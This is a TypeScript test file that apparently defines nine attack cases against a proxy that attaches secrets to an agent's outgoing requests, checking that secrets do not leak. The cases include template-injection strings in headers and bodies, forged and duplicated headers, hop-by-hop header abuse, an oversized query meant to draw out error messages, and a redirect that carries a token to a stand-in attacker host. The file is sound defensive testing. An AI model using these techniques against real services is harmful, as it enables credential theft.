import { arrivedIf, type DoorAttempt, request, secure, TOKEN } from '../plan/attempt';
import { type Allowed, ATTACKER, type DoorCast } from '../plan/cast';
import type { Arrival } from '../plan/wire';
import { group } from './group';

/** Secrets in an arrival that don't belong to the request it is. */
export const strayed = (arrival: Arrival, { allowed }: DoorCast) => {
  const path = arrival.target.replace(/[?#].*/, '');
  const own = allowed.filter(
    (each) =>
      each.method === arrival.method &&
      arrival.host === each.host &&
      path.startsWith(each.path.replace(/[^/]*$/, '')),
  );
  return arrival.secrets.some(({ id }) => !own.some(({ secrets }) => secrets.includes(id)));
};

const ask = (cast: DoorCast, to: Allowed, headers: readonly string[], target = to.path) => [
  secure(cast, to.host, request(to.method, target, to.host, { headers })),
];

const wantsWrite =
  (steps: (cast: DoorCast, write: Allowed) => ReturnType<DoorAttempt['steps']>): DoorAttempt['steps'] =>
  (cast) =>
    cast.write === undefined ? 'this policy has no rule that writes with a secret' : steps(cast, cast.write);

export const SECRETS = group(
  {
    group: 'secrets',
    invariant: 'SEC-2',
    stops: "a secret goes out under its own rules' requests and no others",
    weakened: 'secrets',
    through: arrivedIf(strayed),
  },
  [
    {
      id: 'S01',
      title: "the writing rule's secret with the reading rule",
      steps: wantsWrite((cast) => ask(cast, cast.read, ['X-Want: write'])),
    },
    {
      id: 'S02',
      title: "the reading rule's secret with a request that carries none",
      steps: (cast) => {
        const bare = cast.allowed.find(({ secrets, signed }) => secrets.length === 0 && !signed);
        return bare === undefined ? 'this policy has no rule without a secret' : ask(cast, bare, []);
      },
    },
    {
      id: 'S03',
      title: 'the names of the secrets and of their parameters in headers',
      steps: (cast) =>
        ask(
          cast,
          cast.read,
          cast.policy.secrets.map(({ parameter }, index) => `X-Secret-${index}: ${parameter}`),
        ),
    },
    {
      id: 'S04',
      title: "the formatter's own words in a header",
      steps: (cast) => ask(cast, cast.read, ['X-Template: {{ .Value }}', 'X-Other: ${.Value}']),
    },
    {
      id: 'S05',
      title: "the formatter's own words in query and body",
      steps: wantsWrite((cast, write) => [
        secure(
          cast,
          write.host,
          request(write.method, `${write.path}?q=%7B%7B.Value%7D%7D`, write.host, {
            body: '{"a":"{{ .Value }}"}',
          }),
        ),
      ]),
    },
    {
      id: 'S06',
      title: 'a secret sent to the attacker by a redirect',
      stops: 'redirects go back to the agent, and no rule names the host',
      weakened: 'relay',
      invariant: 'POL-1',
      steps: (cast) => [
        secure(
          cast,
          cast.read.host,
          request('GET', `${cast.read.path}?lab=redirect:https://${ATTACKER}/${TOKEN}`, cast.read.host),
        ),
        secure(cast, ATTACKER, request('GET', `/${TOKEN}`, ATTACKER)),
      ],
      through: arrivedIf(({ host }) => host === ATTACKER),
    },
    {
      id: 'S07',
      title: "a value of the agent's own in the header that carries the secret",
      stops: 'the injected value takes the place of whatever the agent wrote',
      weakened: 'relay',
      steps: (cast) => {
        const header = headerOf(cast);
        return header === undefined
          ? 'the reading rule carries no secret in a header'
          : ask(cast, cast.read, [`${header}: forged`]);
      },
      through: arrivedIf(({ secrets }, { read }) => read.secrets.length > 0 && secrets.length === 0),
    },
    {
      id: 'S08',
      title: 'the header that carries the secret twice, and as a hop-by-hop header',
      stops: 'the secret is set after the headers of the connection are dropped',
      weakened: 'relay',
      steps: (cast) => {
        const header = headerOf(cast);
        return header === undefined
          ? 'the reading rule carries no secret in a header'
          : [
              secure(
                cast,
                cast.read.host,
                request('GET', cast.read.path, cast.read.host, {
                  headers: [`${header}: a`, `${header}: b`, `Connection: close, ${header}`],
                  keepAlive: true,
                }),
              ),
            ];
      },
      through: arrivedIf(({ secrets }, { read }) => read.secrets.length > 0 && secrets.length === 0),
    },
    {
      id: 'S09',
      title: 'a 100 KB query, so that an error might quote what was sent',
      stops: 'errors quote nothing; see the values that must never come back',
      weakened: 'secrets',
      steps: (cast) => ask(cast, cast.read, [], `${cast.read.path}?${'q'.repeat(100_000)}`),
    },
  ],
);

function headerOf({ policy, read }: DoorCast): string | undefined {
  return policy.secrets.find(({ parameter }) => read.secrets.includes(parameter))?.header;
}
